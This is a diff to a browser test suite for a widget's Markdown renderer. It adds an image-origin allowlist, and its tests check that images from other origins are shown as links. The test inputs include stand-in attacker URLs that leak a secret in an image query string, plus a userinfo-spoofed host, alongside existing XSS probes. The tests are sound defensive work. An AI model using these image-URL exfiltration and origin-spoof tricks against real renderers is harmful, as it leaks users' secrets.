@@ -50,9 +50,9 @@ describe('Markdown in the widget, in a real browser', () => {
   let browser: Browser;
   let page: Page;
 
-  const html = (text: string): Promise<string> =>
+  const html = (text: string, options = {}): Promise<string> =>
     page.evaluate(
-      `(() => { const place = document.createElement('div'); place.append(markdown.renderMarkdown(${JSON.stringify(text)})); return place.innerHTML; })()`,
+      `(() => { const place = document.createElement('div'); place.append(markdown.renderMarkdown(${JSON.stringify(text)}, ${JSON.stringify(options)})); return place.innerHTML; })()`,
     );
 
   before(async () => {
@@ -79,7 +79,7 @@ describe('Markdown in the widget, in a real browser', () => {
       const found = await page.evaluate<string[]>(`(async () => {
         const text = ${JSON.stringify(attack)};
         const place = document.body.appendChild(document.createElement('div'));
-        const show = markdown.createMarkdownView(place, () => undefined);
+        const show = markdown.createMarkdownView(place);
         const found = [];
         const look = () => {
           for (const element of place.querySelectorAll('*')) {
@@ -87,7 +87,7 @@ describe('Markdown in the widget, in a real browser', () => {
             for (const { name } of element.attributes) if (!/^(href|src|alt|title|target|rel|align|start|class|tabindex|loading|referrerpolicy)$/.test(name)) found.push(name);
           }
           for (const link of place.querySelectorAll('a')) if (!/^(https?|mailto|tel):$/.test(link.protocol)) found.push(link.href);
-          for (const image of place.querySelectorAll('img')) if (!image.src.startsWith('https://')) found.push(image.src);
+          for (const image of place.querySelectorAll('img')) found.push(image.src);
           for (const element of place.querySelectorAll('*')) element.dispatchEvent(new MouseEvent('mouseover'));
           for (const link of place.querySelectorAll('a[href^="java" i]')) link.click();
         };
@@ -110,15 +110,25 @@ describe('Markdown in the widget, in a real browser', () => {
     );
   });
 
-  it('opens links in a new tab, and loads images over https only', async () => {
+  it('opens links in a new tab', async () => {
     expect(await html('[x](https://example.com/a?b=1&c=2 "t")')).to.equal(
       '<p><a href="https://example.com/a?b=1&amp;c=2" title="t" target="_blank" rel="noopener noreferrer nofollow">x</a></p>',
     );
-    expect(await html('![x](https://127.0.0.1:1/x.png)')).to.contain(
+  });
+
+  it('loads images of the given origins only, and shows the others as links', async () => {
+    const imageOrigins = ['https://127.0.0.1:1'];
+    expect(await html('![x](https://127.0.0.1:1/x.png)', { imageOrigins })).to.contain(
       '<img src="https://127.0.0.1:1/x.png" alt="x" loading="lazy" referrerpolicy="no-referrer">',
     );
+    expect(await html('![x](https://attacker.example/p.png?leak=hunter2)', { imageOrigins })).to.equal(
+      '<p><a href="https://attacker.example/p.png?leak=hunter2" target="_blank" rel="noopener noreferrer nofollow">x</a></p>',
+    );
+    expect(await html('![](https://attacker.example/p.png)')).to.contain('>attacker.example</a>');
+    expect(await html('![x](https://127.0.0.1:1@attacker.example/p.png)', { imageOrigins })).not.to.contain('<img');
     for (const address of ['http://example.com/x.png', '/x.png', '//example.com/x.png', 'data:image/png;base64,AAAA'])
-      expect(await html(`![a **picture**](${address})`)).to.not.contain('<img');
+      expect(await html(`![a **picture**](${address})`, { imageOrigins })).to.not.contain('<img');
+    expect(await html('![x](https://example.com/x.png)', { imageOrigins: 'any' })).to.contain('<img');
   });
 
   it('renders lists, tables, code, headings below those of the window, and checkboxes', async () => {
